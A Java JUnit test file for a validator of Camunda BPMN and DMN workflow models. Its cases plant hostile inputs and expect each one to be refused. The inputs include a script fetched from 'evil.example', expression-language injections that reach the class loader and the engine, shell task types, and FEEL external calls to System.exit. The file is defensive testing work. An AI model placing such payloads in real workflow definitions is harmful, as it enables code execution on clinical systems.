package org.careloop.protocol.vetting;

import static org.assertj.core.api.Assertions.assertThat;
import static org.careloop.protocol.vetting.SmallSet.ATTACK;
import static org.careloop.protocol.vetting.SmallSet.CALL;
import static org.careloop.protocol.vetting.SmallSet.FORM;
import static org.careloop.protocol.vetting.SmallSet.MARKER;
import static org.careloop.protocol.vetting.SmallSet.PART;
import static org.careloop.protocol.vetting.SmallSet.TABLE;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** One example of everything that is refused, named by its reason: a good set spoilt in one place gives exactly that finding and no other. */
class RefusedModelsTest {

  private static final String FIND = "service task \"Find patient\" (findPatient)";
  private static final String CALL_TASK = "user task \"Call patient\" (callPatient)";
  private static final String PROCESS = "process \"Small call\" (small-call)";
  private static final String ARROW = "arrow \"yes\" (yes)";
  private static final String RISK = "decision \"Risk\" (small-table)";
  private static final String DELEGATE = "camunda:delegateExpression=\"${findPatient}\"";
  private static final String CONDITION = "${judgement.risk == 'high' &amp;&amp; age &gt;= 65}";
  private static final String DUE = "${calendar.businessDaysAfter(arrivedAt, 2)}";
  private static final String INPUT = "<camunda:inputParameter name=\"patientIdentifier\">${patientIdentifier}</camunda:inputParameter>";
  private static final String START_OF_EXTENSIONS = "<bpmn:extensionElements>\n        <camunda:inputOutput>";
  private static final String ROOT = "<bpmn:definitions xmlns:bpmn";
  private static final String DOCUMENT = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";

  private static final Vetting VETTING = new Vetting(vocabulary());

  /**
   * @param reason why it is refused
   * @param set the good set, spoilt
   * @param file where it must be found
   * @param rule the rule that it breaks
   * @param element the element that must be named
   * @param what a part of what must be said
   */
  record Refused(String reason, Supplier<ModelSet> set, String file, Rule rule, String element, String what) {
    @Override
    public String toString() {
      return reason;
    }
  }

  private static Vocabulary vocabulary() {
    Vocabulary program = Vocabulary.ofThisProgram();
    StepTemplate template = new StepTemplate("find-patient", List.of(
        new StepTemplate.Field("property", "camunda:delegateExpression", "", "${findPatient}", false),
        new StepTemplate.Field("property", "camunda:exclusive", "", "true", false),
        new StepTemplate.Field("property", "camunda:jobPriority", "Urgency", null, true),
        new StepTemplate.Field("camunda:inputParameter", "patientIdentifier", "Patient", null, true)));
    return new Vocabulary(program.delegates(), program.calendar(), program.news(), program.groups(), Map.of("find-patient", template));
  }

  static Vetting vetting() {
    return VETTING;
  }

  private static Refused call(String reason, String find, String replace, Rule rule, String element, String what) {
    return new Refused(reason, () -> SmallSet.with(CALL, find, replace), CALL, rule, element, what);
  }

  private static Refused table(String reason, String find, String replace, Rule rule, String element, String what) {
    return new Refused(reason, () -> SmallSet.with(TABLE, find, replace), TABLE, rule, element, what);
  }

  private static Refused form(String reason, String find, String replace, Rule rule, String element, String what) {
    return new Refused(reason, () -> SmallSet.with(FORM, find, replace), FORM, rule, element, what);
  }

  private static Refused file(String reason, String path, String content, Rule rule, String what) {
    return new Refused(reason, () -> SmallSet.added(path, content), path, rule, "", what);
  }

  private static Refused extension(String reason, String xml, Rule rule, String what) {
    return call(reason, START_OF_EXTENSIONS, "<bpmn:extensionElements>\n" + xml + "<camunda:inputOutput>", rule, FIND, what);
  }

  private static Refused field(String reason, String json, Rule rule, String element, String what) {
    return form(reason, "{ \"type\": \"number\"", json + ",\n { \"type\": \"number\"", rule, element, what);
  }

  static Stream<Refused> scripts() {
    return Stream.of(
        call("a script task can do anything", "<bpmn:serviceTask id=\"computeDue\" name=\"Note the time\" camunda:expression=\"${calendar.now()}\" camunda:resultVariable=\"notedAt\">\n"
            + "      <bpmn:incoming>no</bpmn:incoming>\n      <bpmn:outgoing>toNothing</bpmn:outgoing>\n    </bpmn:serviceTask>",
            "<bpmn:scriptTask id=\"computeDue\" name=\"Note the time\" scriptFormat=\"juel\"><bpmn:incoming>no</bpmn:incoming><bpmn:outgoing>toNothing</bpmn:outgoing>"
            + "<bpmn:script>" + ATTACK + "</bpmn:script></bpmn:scriptTask>",
            Rule.SCRIPT, "script task \"Note the time\" (computeDue)", "<bpmn:scriptTask>"),
        call("a script may hide in an input", ">${patientIdentifier}<", "><camunda:script scriptFormat=\"juel\">" + ATTACK + "</camunda:script><",
            Rule.SCRIPT, FIND, "<camunda:script>"),
        call("a script may hide in an output", ">${patientId}</camunda:outputParameter>",
            "><camunda:script scriptFormat=\"groovy\" resource=\"http://evil.example/x\" /></camunda:outputParameter>", Rule.SCRIPT, FIND, "<camunda:script>"),
        call("a script may hide in a list", ">${patientId}</camunda:outputParameter>",
            "><camunda:list><camunda:script scriptFormat=\"juel\">" + ATTACK + "</camunda:script></camunda:list></camunda:outputParameter>",
            Rule.SCRIPT, FIND, "<camunda:script>"),
        call("a condition may be a script", "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">",
            "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\" language=\"juel\">", Rule.SCRIPT_LANGUAGE, ARROW, "\"juel\""),
        call("a condition may be read from elsewhere", "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">",
            "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\" camunda:resource=\"deployment://steal.groovy\">",
            Rule.SCRIPT_RESOURCE, ARROW, "steal.groovy"),
        extension("a listener may be a script", "<camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"juel\">" + ATTACK
            + "</camunda:script></camunda:executionListener>", Rule.LISTENER, "<camunda:executionListener>"));
  }

  static Stream<Refused> code() {
    return Stream.of(
        call("a class that a diagram names is run", DELEGATE, "camunda:class=\"java.lang.Thread\"", Rule.JAVA_CLASS, FIND, "java.lang.Thread"),
        call("a class may stand in a message's event", "<bpmn:endEvent id=\"done\" name=\"Patient called\">\n      <bpmn:incoming>toDone</bpmn:incoming>",
            "<bpmn:endEvent id=\"done\" name=\"Patient called\">\n      <bpmn:incoming>toDone</bpmn:incoming>"
            + "<bpmn:messageEventDefinition id=\"doneMessage\" messageRef=\"messageArrived\" camunda:class=\"java.lang.Thread\" />",
            Rule.JAVA_CLASS, "message event definition (doneMessage)", "java.lang.Thread"),
        call("a mapping of variables may be a class", "calledElement=\"small-part\"", "calledElement=\"small-part\" camunda:variableMappingClass=\"x.Y\"",
            Rule.VARIABLE_MAPPING, "call activity \"Do the rest\" (callPart)", "x.Y"),
        call("a mapping of variables may be a bean", "calledElement=\"small-part\"",
            "calledElement=\"small-part\" camunda:variableMappingDelegateExpression=\"${findPatient}\"",
            Rule.VARIABLE_MAPPING, "call activity \"Do the rest\" (callPart)", "${findPatient}"),
        call("a form handler is a class", "camunda:formRef=\"small-form\"", "camunda:formHandlerClass=\"x.Y\" camunda:formRef=\"small-form\"",
            Rule.FORM_HANDLER, CALL_TASK, "x.Y"),
        call("a generated form's validator may be a class", "<bpmn:documentation>Call and note what was said.</bpmn:documentation>",
            "<bpmn:documentation>Call.</bpmn:documentation><bpmn:extensionElements><camunda:formData><camunda:formField id=\"f\" type=\"string\"><camunda:validation>"
            + "<camunda:constraint name=\"validator\" config=\"x.Y\" /></camunda:validation></camunda:formField></camunda:formData></bpmn:extensionElements>",
            Rule.GENERATED_FORM, CALL_TASK, "<camunda:formData>"),
        extension("a connector sends data anywhere", "<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>",
            Rule.CONNECTOR, "<camunda:connector>"),
        call("a mail task writes to anyone", DELEGATE, "camunda:type=\"mail\"", Rule.TASK_TYPE, FIND, "mail"),
        call("a shell task runs commands", DELEGATE, "camunda:type=\"shell\"", Rule.TASK_TYPE, FIND, "shell"),
        call("nobody serves external tasks", DELEGATE, "camunda:type=\"external\"", Rule.TASK_TYPE, FIND, "external"),
        call("a topic belongs to an external task", DELEGATE, DELEGATE + " camunda:topic=\"work\"", Rule.TASK_TYPE, FIND, "work"),
        extension("a listener may be a class", "<camunda:executionListener event=\"start\" class=\"java.lang.Thread\" />", Rule.LISTENER, "<camunda:executionListener>"),
        extension("a listener may be an expression", "<camunda:executionListener event=\"start\" expression=\"" + ATTACK + "\" />", Rule.LISTENER,
            "<camunda:executionListener>"),
        call("a task's listener runs unseen", "<bpmn:documentation>Call and note what was said.</bpmn:documentation>",
            "<bpmn:documentation>Call.</bpmn:documentation><bpmn:extensionElements><camunda:taskListener event=\"create\" delegateExpression=\"${findPatient}\" />"
            + "</bpmn:extensionElements>", Rule.LISTENER, CALL_TASK, "<camunda:taskListener>"),
        extension("an injected field is evaluated", "<camunda:field name=\"to\"><camunda:expression>" + ATTACK + "</camunda:expression></camunda:field>",
            Rule.FIELD, "<camunda:field>"),
        call("an embedded form is a foreign page", "camunda:formRef=\"small-form\" camunda:formRefBinding=\"deployment\"",
            "camunda:formKey=\"embedded:deployment:evil.html\"", Rule.FORM_KEY, CALL_TASK, "embedded:deployment:evil.html"),
        call("a form of the application is a foreign page", "camunda:formRef=\"small-form\" camunda:formRefBinding=\"deployment\"",
            "camunda:formKey=\"app:evil.html\"", Rule.FORM_KEY, CALL_TASK, "app:evil.html"),
        call("a form at an address is a foreign page", "camunda:formRef=\"small-form\" camunda:formRefBinding=\"deployment\"",
            "camunda:formKey=\"https://evil.example/\"", Rule.FORM_KEY, CALL_TASK, "https://evil.example/"),
        call("a step may call the calendar only", "camunda:expression=\"${calendar.now()}\"", "camunda:expression=\"${findPatient.execute(execution)}\"",
            Rule.EXPRESSION_STEP, "service task \"Note the time\" (computeDue)", "findPatient.execute"),
        call("a step's expression is none when it is plain text", "camunda:expression=\"${calendar.now()}\"", "camunda:expression=\"now\"",
            Rule.EXPRESSION_STEP, "service task \"Note the time\" (computeDue)", "now"),
        call("a delegate that is not there cannot run", DELEGATE, "camunda:delegateExpression=\"${stealPatient}\"", Rule.UNKNOWN_DELEGATE, FIND, "stealPatient"),
        call("a delegate may not be called by method", DELEGATE, "camunda:delegateExpression=\"${findPatient.perform('x')}\"", Rule.UNKNOWN_DELEGATE, FIND,
            "findPatient.perform"),
        call("a bean that is no delegate may not be named", DELEGATE, "camunda:delegateExpression=\"${runtimeService}\"", Rule.UNKNOWN_DELEGATE, FIND,
            "runtimeService"),
        call("an import loads from elsewhere", "  <bpmn:process id=\"small-call\"",
            "  <bpmn:import namespace=\"x\" location=\"http://evil.example/x.wsdl\" importType=\"http://schemas.xmlsoap.org/wsdl/\" />\n  <bpmn:process id=\"small-call\"",
            Rule.IMPORT, "", "<bpmn:import>"),
        call("an item definition names foreign types", "  <bpmn:process id=\"small-call\"",
            "  <bpmn:itemDefinition id=\"item\" structureRef=\"java.lang.Runtime\" />\n  <bpmn:process id=\"small-call\"",
            Rule.ITEM_DEFINITION, "item definition (item)", "<bpmn:itemDefinition>"),
        call("the engine obeys old extensions, too", DELEGATE, DELEGATE + " xmlns:a=\"http://activiti.org/bpmn\" a:class=\"java.lang.Thread\"",
            Rule.OLD_NAMESPACE, FIND, "java.lang.Thread"),
        extension("old listeners run as well", "<a:executionListener xmlns:a=\"http://activiti.org/bpmn\" event=\"start\" class=\"java.lang.Thread\" />",
            Rule.OLD_NAMESPACE, "<a:executionListener>"),
        call("an extension that nobody reviewed may do anything", DELEGATE, DELEGATE + " camunda:surprise=\"x\"", Rule.UNKNOWN_EXTENSION, FIND, "surprise"),
        extension("an extension element that nobody reviewed may do anything", "<camunda:surprise />", Rule.UNKNOWN_EXTENSION, "<camunda:surprise>"),
        call("case diagrams are not called", "calledElement=\"small-part\"", "calledElement=\"small-part\" camunda:caseRef=\"x\"",
            Rule.OTHER_ROOT, "call activity \"Do the rest\" (callPart)", "caseRef"));
  }

  static Stream<Refused> expressions() {
    List<Refused> all = new ArrayList<>(List.of(
        call("an expression with # is not reviewed", "sourceExpression=\"${calendar.now()}\"", "sourceExpression=\"#{calendar.now()}\"", Rule.EXPRESSION_HASH,
            "call activity \"Do the rest\" (callPart)", "#{calendar.now()}"),
        call("a task's name would be evaluated", "name=\"Call patient\"", "name=\"Call ${patientLabel}\"", Rule.EXPRESSION_PLACE,
            "user task \"Call ${patientLabel}\" (callPatient)", "Call ${patientLabel}"),
        call("a task's documentation would be evaluated", "Call and note what was said.", "Call ${patientLabel}.", Rule.EXPRESSION_PLACE, CALL_TASK,
            "documentation: Call ${patientLabel}."),
        call("a message's name would be evaluated", "name=\"PatientArrived\"", "name=\"Patient${kind}\"", Rule.EXPRESSION_PLACE,
            "message \"Patient${kind}\" (messageArrived)", "Patient${kind}"),
        call("a signal's name would be evaluated", "  <bpmn:error id=", "  <bpmn:signal id=\"s\" name=\"${signal}\" />\n  <bpmn:error id=", Rule.EXPRESSION_PLACE,
            "signal \"${signal}\" (s)", "${signal}"),
        call("a retry cycle would be evaluated", START_OF_EXTENSIONS,
            "<bpmn:extensionElements><camunda:failedJobRetryTimeCycle>${retries}</camunda:failedJobRetryTimeCycle><camunda:inputOutput>",
            Rule.EXPRESSION_PLACE, FIND, "${retries}"),
        call("a property would be evaluated", START_OF_EXTENSIONS,
            "<bpmn:extensionElements><camunda:properties><camunda:property name=\"p\" value=\"${x}\" /></camunda:properties><camunda:inputOutput>",
            Rule.EXPRESSION_PLACE, FIND, "value: ${x}"),
        call("who may start would be evaluated", "camunda:historyTimeToLive=\"P3653D\"", "camunda:historyTimeToLive=\"P3653D\" camunda:candidateStarterGroups=\"${g}\"",
            Rule.EXPRESSION_PLACE, PROCESS, "candidateStarterGroups: ${g}"),
        call("a foreign extension is no way around", DELEGATE, DELEGATE + " xmlns:v=\"http://vendor.example\" v:note=\"${x}\"", Rule.EXPRESSION_PLACE, FIND, "note: ${x}"),
        call("an expression in pieces is one all the same", "Call and note what was said.", "Call $<!-- -->{patientLabel}", Rule.EXPRESSION_PLACE, CALL_TASK,
            "Call ${patientLabel}"),
        call("an expression in character references is one all the same", "Call and note what was said.", "Call &#36;&#123;patientLabel}", Rule.EXPRESSION_PLACE,
            CALL_TASK, "Call ${patientLabel}"),
        call("a resource role would be evaluated", "<bpmn:outgoing>toPart</bpmn:outgoing>", "<bpmn:outgoing>toPart</bpmn:outgoing><bpmn:potentialOwner id=\"o\"><bpmn:resourceAssignmentExpression>"
            + "<bpmn:formalExpression>${steal}</bpmn:formalExpression></bpmn:resourceAssignmentExpression></bpmn:potentialOwner>",
            Rule.EXPRESSION_PLACE, "potential owner (o)", "${steal}"),
        call("a computed process was never reviewed", "calledElement=\"small-part\"", "calledElement=\"${part}\"", Rule.COMPUTED_REFERENCE,
            "call activity \"Do the rest\" (callPart)", "${part}"),
        call("a computed form was never reviewed", "camunda:formRef=\"small-form\"", "camunda:formRef=\"${form}\"", Rule.COMPUTED_REFERENCE, CALL_TASK, "${form}"),
        call("a computed table was never reviewed", "camunda:decisionRef=\"small-table\"", "camunda:decisionRef=\"${table}\"", Rule.COMPUTED_REFERENCE,
            "business rule task \"Judge risk\" (judge)", "${table}"),
        call("the calendar has no such method", DUE, "${calendar.moonAfter(arrivedAt, 2)}", Rule.CALENDAR_METHOD, CALL_TASK, "moonAfter"),
        call("the calendar's zone is not data", DUE, "${calendar.zone()}", Rule.CALENDAR_METHOD, CALL_TASK, "zone"),
        call("the calendar needs all its values", DUE, "${calendar.businessDaysAfter(arrivedAt)}", Rule.CALENDAR_ARGUMENTS, CALL_TASK, "1 given, expected 2"),
        call("the calendar takes no more values than it knows", DUE, "${calendar.now(arrivedAt)}", Rule.CALENDAR_ARGUMENTS, CALL_TASK, "1 given, expected 0"),
        call("the calendar is not a value", DUE, "${calendar}", Rule.EXPRESSION_DELEGATE, CALL_TASK, "${calendar}"),
        call("a delegate is not a value", ">${patientIdentifier}<", ">${notifyTeam}<", Rule.EXPRESSION_DELEGATE, FIND, "${notifyTeam}"),
        call("a delegate has no members for a diagram", ">${patientIdentifier}<", ">${findPatient.ehr}<", Rule.EXPRESSION_DELEGATE, FIND, "findPatient.ehr"),
        call("the published attack", CONDITION, ATTACK, Rule.EXPRESSION_REACH, ARROW, "getClass"),
        call("the attack in an assignee", "camunda:candidateGroups=\"nurses\"", "camunda:candidateGroups=\"nurses\" camunda:assignee=\"" + ATTACK + "\"",
            Rule.EXPRESSION_REACH, CALL_TASK, "assignee"),
        call("the attack in a timer", "${callDueAt}", ATTACK, Rule.EXPRESSION_REACH, "timer event definition (callLateTimer)", "timeDate"),
        call("the attack in a business key", "businessKey=\"${encounterId}\"", "businessKey=\"" + ATTACK + "\"", Rule.EXPRESSION_REACH,
            "call activity \"Do the rest\" (callPart)", "businessKey"),
        call("the attack in an output", ">${patientId}</camunda:outputParameter>", ">" + ATTACK + "</camunda:outputParameter>", Rule.EXPRESSION_REACH, FIND,
            "outputParameter knownPatient"),
        call("the attack in a value of a map", ">${patientId}</camunda:outputParameter>", "><camunda:map><camunda:entry key=\"k\">" + ATTACK
            + "</camunda:entry></camunda:map></camunda:outputParameter>", Rule.EXPRESSION_REACH, FIND, "entry")));
    Map<String, String> reaching = Map.of("the class of a value leads to the program", "${patientId.class.classLoader}",
        "the execution leads to the engine", "${execution.processEngineServices.runtimeService}", "the task leads to the engine", "${task.execution}",
        "a variable's class by its getter", "${patientId.getClass}", "the engine by its name", "${processEngine.name}",
        "everything by the context of variables", "${variableContext}");
    new TreeMap<>(reaching).forEach((reason, text) -> all.add(call(reason, ">${patientIdentifier}<", ">" + text + "<", Rule.EXPRESSION_REACH, FIND, text)));
    Map<String, String> beyond = Map.of("a method of a value is code", "${patientId.length()}", "brackets reach any member", "${map['x']}",
        "arithmetic hides a rule", "${age + 1}", "a choice hides a rule", "${age > 1 ? 'a' : 'b'}", "parentheses hide what they group", "${(age)}",
        "an assignment changes the case", "${age = 1}", "a function is code", "${now()}", "an expression within text", "Dear ${patientLabel}",
        "two expressions in one text", "${age}${risk}", "a text that quotes its way out", "${'a\\'.x'}");
    new TreeMap<>(beyond).forEach((reason, text) ->
        all.add(call(reason, ">${patientIdentifier}<", ">" + text.replace(">", "&gt;") + "<", Rule.EXPRESSION_FORM, FIND, text)));
    return all.stream();
  }

  static Stream<Refused> house() {
    return Stream.of(
        new Refused("one process a file", () -> SmallSet.with(PART, "  <bpmndi:BPMNDiagram id=",
            "  <bpmn:process id=\"second\" isExecutable=\"false\" />\n  <bpmndi:BPMNDiagram id="), PART, Rule.ONE_PROCESS, "", "2 processes"),
        call("a process that is not executable is left out", "isExecutable=\"true\"", "isExecutable=\"false\"", Rule.NOT_EXECUTABLE, PROCESS, "not marked"),
        new Refused("a process is called as its file", () -> SmallSet.with(PART, "<bpmn:process id=\"small-part\"", "<bpmn:process id=\"other-part\""), PART, Rule.MODEL_ID, "process \"Small part\" (other-part)", "expected small-part"),
        call("a process says what it is for", "Purpose: an example with one of each. Clinical owner: nobody. Sources: none.", " ", Rule.DOCUMENTATION, PROCESS,
            "no documentation"),
        call("a process has a version", " camunda:versionTag=\"1.0.0\"", "", Rule.VERSION_TAG, PROCESS, "no version tag"),
        call("a version has three numbers", "camunda:versionTag=\"1.0.0\"", "camunda:versionTag=\"new\"", Rule.VERSION_TAG, PROCESS, "\"new\""),
        call("records have a time to live", " camunda:historyTimeToLive=\"P3653D\"", "", Rule.TIME_TO_LIVE, PROCESS, "no history time to live"),
        call("records are kept six years", "camunda:historyTimeToLive=\"P3653D\"", "camunda:historyTimeToLive=\"P2191D\"", Rule.TIME_TO_LIVE, PROCESS, "P2191D"),
        call("a time to live is in days", "camunda:historyTimeToLive=\"P3653D\"", "camunda:historyTimeToLive=\"P10Y\"", Rule.TIME_TO_LIVE, PROCESS, "P10Y"),
        call("nobody outside the care team starts a case", " camunda:versionTag=\"1.0.0\"", " camunda:versionTag=\"1.0.0\" camunda:candidateStarterGroups=\"auditors\"",
            Rule.STARTERS, PROCESS, "candidate starter groups \"auditors\""),
        call("no person by name starts a case", " camunda:versionTag=\"1.0.0\"", " camunda:versionTag=\"1.0.0\" camunda:candidateStarterUsers=\"nurse\"",
            Rule.STARTERS, PROCESS, "persons may start it: \"nurse\""),
        call("who may start finds it in the task list", " camunda:versionTag=\"1.0.0\"",
            " camunda:versionTag=\"1.0.0\" camunda:candidateStarterGroups=\"nurses\" camunda:isStartableInTasklist=\"false\"", Rule.STARTERS, PROCESS, "not startable"),
        call("a case is started with a form", " camunda:versionTag=\"1.0.0\"", " camunda:versionTag=\"1.0.0\" camunda:candidateStarterGroups=\"nurses\"",
            Rule.START_FORM, PROCESS, "no plain start event with a form"),
        call("a start form that is missing", "<bpmn:startEvent id=\"arrived\" name=\"Patient arrived\">",
            "<bpmn:startEvent id=\"arrived\" name=\"Patient arrived\" camunda:formRef=\"none\" camunda:formRefBinding=\"deployment\">", Rule.MISSING_FORM,
            "start event \"Patient arrived\" (arrived)", "there is no form \"none\""),
        new Refused("a form that is missing", () -> SmallSet.good().without(Set.of(FORM)), CALL, Rule.MISSING_FORM, CALL_TASK, "small-form"),
        new Refused("a table that is missing", () -> SmallSet.good().without(Set.of(TABLE)), CALL, Rule.MISSING_TABLE, "business rule task \"Judge risk\" (judge)", "small-table"),
        new Refused("a process that is missing", () -> SmallSet.good().without(Set.of(PART)), CALL, Rule.MISSING_PROCESS, "call activity \"Do the rest\" (callPart)", "small-part"),
        call("the form of the same release", " camunda:formRefBinding=\"deployment\"", "", Rule.BINDING, CALL_TASK, "form binding"),
        call("the table of the same release", "camunda:decisionRefBinding=\"deployment\"", "camunda:decisionRefBinding=\"latest\"", Rule.BINDING,
            "business rule task \"Judge risk\" (judge)", "latest"),
        call("the process of the same release", "camunda:calledElementBinding=\"deployment\"", "camunda:calledElementBinding=\"latest\"", Rule.BINDING,
            "call activity \"Do the rest\" (callPart)", "latest"),
        call("a task is for somebody", " camunda:candidateGroups=\"nurses\"", "", Rule.CANDIDATE_GROUPS, CALL_TASK, "no candidate group"),
        call("a task is for a group that is there", "camunda:candidateGroups=\"nurses\"", "camunda:candidateGroups=\"nurses,wizards\"", Rule.CANDIDATE_GROUPS, CALL_TASK,
            "wizards"),
        call("auditors change nothing", "camunda:candidateGroups=\"nurses\"", "camunda:candidateGroups=\"auditors\"", Rule.CANDIDATE_GROUPS, CALL_TASK, "auditors"),
        call("people are assigned in one place", "<bpmn:outgoing>toPart</bpmn:outgoing>", "<bpmn:outgoing>toPart</bpmn:outgoing><bpmn:potentialOwner id=\"owner\"><bpmn:resourceAssignmentExpression>"
            + "<bpmn:formalExpression>group(nurses)</bpmn:formalExpression></bpmn:resourceAssignmentExpression></bpmn:potentialOwner>",
            Rule.OTHER_ASSIGNMENT, CALL_TASK, "resource role"),
        call("a task is due", " camunda:dueDate=\"" + DUE + "\"", "", Rule.DUE_DATE, CALL_TASK, "no due date"),
        call("somebody hears of a late task", "attachedToRef=\"callPatient\" cancelActivity=\"false\"", "attachedToRef=\"callPatient\"", Rule.OVERDUE_TIMER, CALL_TASK,
            "no timer"),
        call("a task explains itself", "Call and note what was said.", "", Rule.TASK_DOCUMENTATION, CALL_TASK, "no documentation"),
        call("a step does something", " camunda:expression=\"${calendar.now()}\"", "", Rule.NO_WORK, "service task \"Note the time\" (computeDue)", "nothing"),
        call("an outside call can be tried again", "camunda:asyncBefore=\"true\" ", "", Rule.ASYNC_BEFORE, FIND, "not asynchronous"),
        call("a delegate needs its inputs", INPUT, "", Rule.INPUT_MISSING, FIND, "patientIdentifier"),
        call("an empty input is none", ">${patientIdentifier}<", "> <", Rule.INPUT_MISSING, FIND, "is empty"),
        call("a misspelled input is not read", INPUT, INPUT + "<camunda:inputParameter name=\"patientIdentifer\">x</camunda:inputParameter>", Rule.INPUT_UNKNOWN, FIND,
            "patientIdentifer"),
        call("a template that is not there", DELEGATE, DELEGATE + " camunda:modelerTemplate=\"steal-patient\"", Rule.TEMPLATE_UNKNOWN, FIND, "steal-patient"),
        call("a template keeps what it fixes", DELEGATE, DELEGATE + " camunda:modelerTemplate=\"find-patient\" camunda:exclusive=\"false\" camunda:jobPriority=\"1\"",
            Rule.TEMPLATE_FIXED, FIND, "camunda:exclusive is \"false\""),
        call("a template's step has what it cannot do without", DELEGATE, DELEGATE + " camunda:modelerTemplate=\"find-patient\" camunda:exclusive=\"true\"",
            Rule.TEMPLATE_REQUIRED, FIND, "\"Urgency\""),
        call("a table's answer goes somewhere", " camunda:resultVariable=\"judgement\"", "", Rule.DECISION_RESULT, "business rule task \"Judge risk\" (judge)", "no result"),
        call("news that never comes", "name=\"PatientArrived\"", "name=\"PatientBeamedUp\"", Rule.UNKNOWN_NEWS, "message \"PatientBeamedUp\" (messageArrived)",
            "PatientBeamedUp"),
        call("an error has a code", " errorCode=\"patient-unknown\"", "", Rule.ERROR_CODE, "boundary event \"Patient unknown\" (patientUnknown)", "without a code"),
        call("a code is in small letters with hyphens", "errorCode=\"patient-unknown\"", "errorCode=\"PatientUnknown\"", Rule.ERROR_CODE,
            "boundary event \"Patient unknown\" (patientUnknown)", "PatientUnknown"),
        call("a code that the delegate never gives", "errorCode=\"patient-unknown\"", "errorCode=\"slot-taken\"", Rule.UNKNOWN_ERROR,
            "boundary event \"Patient unknown\" (patientUnknown)", "slot-taken"),
        call("a step has a label", " name=\"Find patient\"", "", Rule.LABEL, "service task (findPatient)", "no label"),
        call("an end is an outcome", " name=\"Patient called\"", "", Rule.LABEL, "end event (done)", "outcome"),
        call("a process has a name", " name=\"Small call\"", "", Rule.LABEL, "process (small-call)", "no name"),
        call("a decision is a question", " name=\"Needs a call?\"", "", Rule.GATEWAY_QUESTION, "exclusive gateway (needsCall)", "question"),
        call("a question has answers", " name=\"no\"", "", Rule.WAY_LABEL, "arrow from \"Needs a call?\" (no)", "no label"),
        call("an answer has a condition", "      <bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">" + CONDITION + "</bpmn:conditionExpression>\n", "",
            Rule.WAY_CONDITION, ARROW, "no condition"),
        call("a decision has a way for everything else", " default=\"no\"", "", Rule.DEFAULT_WAY, "exclusive gateway \"Needs a call?\" (needsCall)", "no default"),
        call("an arrow is tied at both ends", "      <bpmn:incoming>toDone</bpmn:incoming>\n", "", Rule.LOOSE_ARROW, "arrow from \"Do the rest\" (toDone)", "both of its ends"),
        new Refused("ids mean something", () -> replaced(PART, "\"answered\"", "\"Event_0abc123\""), PART, Rule.GENERATED_ID,
            "end event \"Answered\" (Event_0abc123)", "Event_0abc123"),
        call("an event's definition has an id", " id=\"callLateTimer\"", "", Rule.NO_ID, "boundary event \"Call late\" (callLate)", "timerEventDefinition"),
        call("what is not drawn runs unseen", "      <bpmndi:BPMNShape id=\"computeDue_di\" bpmnElement=\"computeDue\"><dc:Bounds x=\"1750\" y=\"100\" width=\"100\" height=\"80\" />"
            + "</bpmndi:BPMNShape>\n", "", Rule.NOT_DRAWN, "service task \"Note the time\" (computeDue)", "not in the drawing"),
        call("an arrow that is not drawn", "      <bpmndi:BPMNEdge id=\"toPart_di\" bpmnElement=\"toPart\"><di:waypoint x=\"0\" y=\"0\" /><di:waypoint x=\"10\" y=\"0\" />"
            + "</bpmndi:BPMNEdge>\n", "", Rule.NOT_DRAWN, "arrow (toPart)", "not in the drawing"),
        new Refused("news starts one protocol", () -> SmallSet.good().with(Map.of(PART, text(SmallSet.good(), PART)
            .replace("<bpmn:outgoing>toEnd</bpmn:outgoing>", "<bpmn:outgoing>toEnd</bpmn:outgoing><bpmn:messageEventDefinition id=\"again\" messageRef=\"m\" />")
            .replace("  <bpmndi:BPMNDiagram id=", "  <bpmn:message id=\"m\" name=\"PatientArrived\" />\n  <bpmndi:BPMNDiagram id=")
            .getBytes(StandardCharsets.UTF_8))), PART, Rule.NEWS_TWICE, "start event \"Asked\" (asked)", "PatientArrived starts " + CALL));
  }

  static Stream<Refused> tables() {
    return Stream.of(
        table("a file in another language runs scripts", "id=\"small-table-diagram\"", "id=\"small-table-diagram\" expressionLanguage=\"groovy\"", Rule.TABLE_LANGUAGE, "", "groovy"),
        table("an input in another language runs scripts", "<inputExpression id=\"in-1-expression\"", "<inputExpression id=\"in-1-expression\" expressionLanguage=\"javascript\"",
            Rule.TABLE_LANGUAGE, "input expression (in-1-expression)", "javascript"),
        table("a condition in another language runs scripts", "<inputEntry id=\"row-1-in-1\"", "<inputEntry id=\"row-1-in-1\" expressionLanguage=\"juel\"", Rule.TABLE_LANGUAGE,
            "input entry (row-1-in-1)", "juel"),
        table("an answer in another language runs scripts", "<outputEntry id=\"row-1-out-1\"", "<outputEntry id=\"row-1-out-1\" expressionLanguage=\"python\"",
            Rule.TABLE_LANGUAGE, "output entry (row-1-out-1)", "python"),
        table("a literal in another language runs scripts", "<literalExpression id=\"small-list-literal\"", "<literalExpression id=\"small-list-literal\" expressionLanguage=\"juel\"",
            Rule.TABLE_LANGUAGE, "literal expression (small-list-literal)", "juel"),
        table("an expression in a table is one of another language", "<text>\"low\"</text>", "<text>\"" + ATTACK.replace("'", "&apos;") + "\"</text>", Rule.EXPRESSION_PLACE,
            "output entry (row-2-out-1)", "getClass"),
        table("an external function is a class of the program", "<text>age + 0</text>",
            "<text>{f: function(a) external {java: {class: \"java.lang.System\", method_signature: \"getProperty(java.lang.String)\"}}, r: f(\"user.home\")}.r</text>",
            Rule.FEEL_JAVA, "input expression (in-2-expression)", "external"),
        table("an external function in an answer", "<text>\"low\"</text>",
            "<text>function(a) external {java: {class: \"java.lang.System\", method signature: \"exit(int)\"}}</text>",
            Rule.FEEL_JAVA, "output entry (row-2-out-1)", "external"),
